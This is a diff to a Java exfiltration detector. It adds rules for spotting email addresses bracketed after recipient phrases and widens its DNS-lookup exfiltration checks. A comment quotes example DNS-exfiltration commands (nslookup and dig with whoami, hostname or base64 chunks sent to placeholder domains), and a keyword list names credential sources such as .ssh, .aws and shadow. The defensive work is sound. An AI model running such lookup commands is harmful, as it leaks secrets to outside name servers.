@@ -371,7 +371,7 @@ public final class ExfiltrationDetector {
                 hostWithPath(text, ts, te, out);
             }
             if (ts > 0 && ("$)}`".indexOf(text.charAt(ts - 1)) >= 0 || text.charAt(ts) == '.'
-                    && "'\"".indexOf(text.charAt(ts - 1)) >= 0)) {
+                    && "'\">]".indexOf(text.charAt(ts - 1)) >= 0)) {
                 substitutedLookup(text, ts, te, out);
             }
             d = te < n ? text.indexOf('.', te) : -1;
@@ -1317,8 +1317,18 @@ public final class ExfiltrationDetector {
         }
         String before = TransferSentences.fold(text, from, at);
         java.util.regex.Matcher m = DESTINATION_WORD.matcher(before);
-        return TransferSentences.OWN.find(m.find() ? before.substring(m.start()) : before);
+        String dest = m.find() ? before.substring(m.start()) : before;
+        return TransferSentences.OWN.find(dest) && !PERSON_ELSEWHERE.matcher(dest).find();
     }
+
+    /**
+     * "our contact at Globex", "my counterpart at the bank": a person of another organisation, whatever the possessive
+     * says (folded text).
+     */
+    private static final java.util.regex.Pattern PERSON_ELSEWHERE = java.util.regex.Pattern.compile("\\b(?:our|my"
+            + "|onze|mijn|unser\\w*|mein\\w*|notre|mon|nuestro|mi|nostro|il mio) (?:\\w+ )?(?:contact|counterpart|liaison"
+            + "|rep|representative|friend|buddy|guy|person|account manager|contactpersoon|ansprechpartner\\w*"
+            + "|interlocuteur|contacto|referente) (?:at|from|bei|chez|bij|van|di|de|en|in)\\b");
 
     /** A destination word ({@link #DESTINATION_WORDS}) in folded text. */
     private static final java.util.regex.Pattern DESTINATION_WORD = java.util.regex.Pattern.compile(
@@ -1628,7 +1638,8 @@ public final class ExfiltrationDetector {
             boolean free = !foreign && webmail(text, at + 1, de);
             boolean lookalike = foreign && mixedScript(text, at + 1, de);
             boolean personal = !free && !lookalike && mayBePersonal(text, Math.max(0, ls - 48), ls);
-            boolean addressed = !free && !lookalike && !personal && destinationWord(text, ls);
+            boolean addressed = !free && !lookalike && !personal && (destinationWord(text, ls)
+                    || bracketedRecipient(text, ls));
             if (!free && !personal && !lookalike && !addressed) {
                 continue;
             }
@@ -1688,6 +1699,21 @@ public final class ExfiltrationDetector {
 
     /** How long the sentence after an address may be for {@link #nextSentenceEnd}. */
     private static final int NEXT_REACH = 120;
+
+    /**
+     * "to our contact at Globex (j.ward@globex-corp.com)": an address in brackets right after a recipient named with a
+     * destination word a few words before.
+     */
+    private static boolean bracketedRecipient(String text, int ls) {
+        if (ls == 0 || text.charAt(ls - 1) != '(') {
+            return false;
+        }
+        return BRACKETED.matcher(TransferSentences.fold(text, Math.max(0, ls - 60), ls - 1)).find();
+    }
+
+    /** A destination word, then one to five words up to the bracket (folded text). */
+    private static final java.util.regex.Pattern BRACKETED = java.util.regex.Pattern.compile("\\b(?:to|naar|an|vers"
+            + "|al|para|per|with|met|mit|avec|con)(?: [\\w'.&-]+){1,5} ?$");
 
     /** Whether [ss, se) holds a mark of someone outside or of an order planted for the assistant. */
     private static boolean markedOutside(String text, int ss, int se) {
@@ -2315,13 +2341,14 @@ public final class ExfiltrationDetector {
      */
     private static final String[] SOURCES = {"base64", "b64", "b32", "xxd", "hexdump", "od ", "whoami", "hostname",
         "id ", "printenv", "env", "credentials", "passwd", "shadow", ".ssh", ".aws", "secret", "token", "key",
-        "password", "readallbytes", "tohex", "hexlify"};
+        "password", "readallbytes", "tohex", "hexlify", "encod"};
 
     /**
      * "nslookup $(whoami).$(hostname).x.example", "dig $chunk.t.example.xyz" in a loop over base64 of a credentials
      * file, {@code Resolve-DnsName ("{0}.{1}.q.example.net" -f $i, $b...)}, {@code gethostbyname(chunk +
      * '.t.example.net')}: a host name whose first label is filled in by the code (a substitution, a format slot, a
-     * concatenation), resolved by a lookup command or call on its line, with a data source (an encoder, a secret or
+     * concatenation, or a placeholder such as {@code <hex>} or {@code [chunk]} written for the reader to fill),
+     * resolved by a lookup command or call on its line, with a data source (an encoder, a secret or
      * identity, a file read, or an encoded literal of 24+ characters such as a loop's list) on that line or in the
      * {@value #LOOKUP_REACH} characters before it; the lookup sends the data to the domain's name server.
      */
